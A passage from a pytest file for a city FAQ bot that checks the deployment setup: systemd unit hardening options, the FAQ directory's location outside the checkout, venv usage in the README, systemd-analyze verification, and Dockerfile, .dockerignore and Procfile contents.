    for key, value in {"NoNewPrivileges": "yes", "ProtectSystem": "strict", "ProtectHome": "yes", "PrivateTmp": "yes", "PrivateDevices": "yes"}.items():
        assert unit[key] == [value], key
    assert unit["CapabilityBoundingSet"] == [""]


def test_the_served_faq_lives_outside_the_checkout_so_git_pull_never_meets_local_edits():
    unit = unit_settings()
    (faq_dir,) = [v.split("=", 1)[1] for v in unit["Environment"] if v.startswith("BOT_FAQ_DIR=")]
    assert not faq_dir.startswith(unit["WorkingDirectory"][0] + "/"), faq_dir
    guide = (ROOT / "deploy" / "README.md").read_text(encoding="utf-8")
    assert f"BOT_FAQ_DIR={faq_dir}" in guide and f"sudoedit {faq_dir}/faq.yaml" in guide
    assert "/opt/kscity-faq-bot/faq/" not in guide.replace("cp -r /opt/kscity-faq-bot/faq ", ""), "no step edits the checkout's FAQ"
    ignored = (ROOT / ".gitignore").read_text(encoding="utf-8").splitlines()
    assert "venv/" in ignored, "the unit's venv inside the checkout leaves `git status` clean"


def test_readme_commands_run_from_the_quick_starts_venv():
    """`python -m bot` works only in an activated venv, which the quick start never creates."""
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    bare = [line for line in readme.splitlines() if re.search(r"(?<!\.venv/bin/)\bpython -m bot\b", line)]
    assert bare == []


@pytest.mark.skipif(not shutil.which("systemd-analyze"), reason="systemd-analyze is not installed")
def test_systemd_unit_passes_systemd_analyze_verify(tmp_path):
    unit = tmp_path / "kscity-faq-bot.service"
    text = (ROOT / "deploy" / "kscity-faq-bot.service").read_text(encoding="utf-8")
    unit.write_text(re.sub(r"^ExecStart=.*$", f"ExecStart={shutil.which('true')}", text, flags=re.MULTILINE))  # the venv is not here
    done = subprocess.run(["systemd-analyze", "verify", str(unit)], capture_output=True, text=True, timeout=60)
    version = int(re.search(r"systemd (\d+)", subprocess.run(["systemd-analyze", "--version"], capture_output=True, text=True).stdout)[1])
    newer = ("RestartSteps", "RestartMaxDelaySec")  # systemd 254+: older ones ignore them, as the unit says
    problems = [line for line in done.stderr.splitlines() if line.strip() and not (version < 254 and any(f"'{key}'" in line for key in newer))]
    assert done.returncode == 0 and not problems, done.stderr


def test_dockerfile_and_procfile():
    docker = (ROOT / "Dockerfile").read_text(encoding="utf-8")
    instructions = [line.split(None, 1) for line in docker.splitlines() if line and not line.startswith(("#", " "))]
    keys = [i[0] for i in instructions]
    assert instructions[0] == ["FROM", "python:3.11-slim"]
    assert "pip install --no-cache-dir ." in docker
    user = [i[1] for i in instructions if i[0] == "USER"]
    assert user and user[-1] not in ("root", "0") and keys.index("USER") > max(i for i, k in enumerate(keys) if k == "RUN")
    assert 'VOLUME ["/data"]' in docker and "BOT_DATA_DIR=/data" in docker
    assert instructions[-1] == ["CMD", '["python", "-m", "bot", "run"]']
    assert ["HEALTHCHECK", '--interval=30s --timeout=10s --start-period=30s --retries=3 CMD ["python", "-m", "bot", "doctor", "--live"]'] in instructions
    ignored = (ROOT / ".dockerignore").read_text(encoding="utf-8").splitlines()
    assert {".env", "data/", ".git", ".venv"} <= set(ignored), "no secrets, user data or venv in the build context"
    assert (ROOT / "Procfile").read_text(encoding="utf-8").strip() == "worker: python -m bot run"
